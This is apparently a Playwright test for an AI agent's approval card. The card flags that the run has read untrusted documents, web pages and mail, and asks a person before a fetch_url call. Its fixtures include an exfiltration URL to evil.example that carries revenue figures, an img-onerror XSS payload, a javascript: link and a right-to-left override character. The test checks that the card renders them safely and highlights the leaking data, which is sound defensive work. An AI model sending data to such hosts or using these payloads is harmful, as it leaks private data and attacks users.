"""The card of a call in a run that has read what others wrote: what was read, what would leave, and no rule of it."""

import os
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.page import asked
from tests.page.asked import Json
from tests.page.test_approvals import SIZES, Waiting, card, faults_of, waiting

__all__ = ["waiting"]
DOCUMENT = "3f2b8e2a-6f0e-4c2e-9d57-0c9f4f0d1a11"
URL = "https://evil.example/collect?d=Q3%20revenue%20was%204.2M&\u202e"
WHY = (
    "This run has read text that others wrote (“Minutes”, “Acme grows” and 5 more), and fetch_url sends data out: "
    "a person decides each time. The policy “Web” asks for it."
)
# Where a person wants to look at them: a folder for the pictures.
PICTURES = os.environ.get("CARD_PICTURES")


def tainted() -> Json:
    call = asked.call("fetch_url", {"url": URL}, preview={"kind": "arguments"}, risk="low")
    parts = [
        {"text": "https://evil.example/collect?d=", "carried": False},
        {"text": "Q3", "carried": False},
        {"text": " ", "carried": False},
        {"text": "revenue was 4.2M", "carried": True},
        {"text": "&\u202e", "carried": False},
    ]
    return asked.approval(
        call,
        agent_name="web",
        question="May the web agent call fetch_url?",
        why=WHY,
        rules_allowed=False,
        tainted_by=[
            {"kind": "document", "title": "Minutes", "tool": "search_documents", "document_id": DOCUMENT},
            {"kind": "web", "title": "Acme grows", "url": "https://news.example.org/acme", "tool": "web_search"},
            {"kind": "mail", "title": "<img src=x onerror=alert(1)>\u202e", "tool": "read_message"},
            {"kind": "server", "title": "mcp_notes_look", "url": "javascript:alert(2)", "tool": "mcp_notes_look"},
        ],
        tainted_more=5,
        address={"url": URL, "host": "evil.example", "parts": parts},
    )


@pytest.mark.slow
@pytest.mark.spec("S207", "B5")
@pytest.mark.threat("T11", "T16", "T20")
@pytest.mark.parametrize("size", sorted(SIZES))
def test_a_card_says_what_was_read_and_what_would_leave_and_makes_no_rule(waiting: Waiting, size: str) -> None:
    page = waiting(tainted()).page
    page.set_viewport_size(SIZES[size])  # type: ignore[arg-type]

    block = card(page).locator(".approval-tainted")
    expect(block).to_contain_text("This run has read text that others wrote, so you are asked about each call")
    expect(block.locator("li")).to_have_count(5)
    expect(block.locator("li").last).to_have_text("and 5 more")
    links = block.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert links == [f"/documents/{DOCUMENT}/", "https://news.example.org/acme"]
    expect(block).to_contain_text("<img src=x onerror=alert(1)>⟨U+202E⟩")
    expect(block.locator(".address-whole")).to_have_text("https://evil.example/collect?d=Q3 revenue was 4.2M&⟨U+202E⟩")
    expect(block.locator("mark")).to_have_text("revenue was 4.2M")
    expect(block).to_contain_text("would go to evil.example")
    # The long sentence is said by the block; what else asks for it still stands there.
    expect(card(page).locator(".asker-task", has_text="Asked because")).to_have_text(
        "Asked because: The policy “Web” asks for it."
    )
    expect(card(page)).to_contain_text("No rule is made of an answer while text of others stands in the run.")
    expect(card(page).locator(".remember select")).to_have_count(0)
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        assert faults_of(page) == []
        _kept(page, f"{size}-{scheme}")


def _kept(page: Any, name: str) -> None:
    if PICTURES:
        card(page).screenshot(path=Path(PICTURES) / f"tainted-{name}.png")
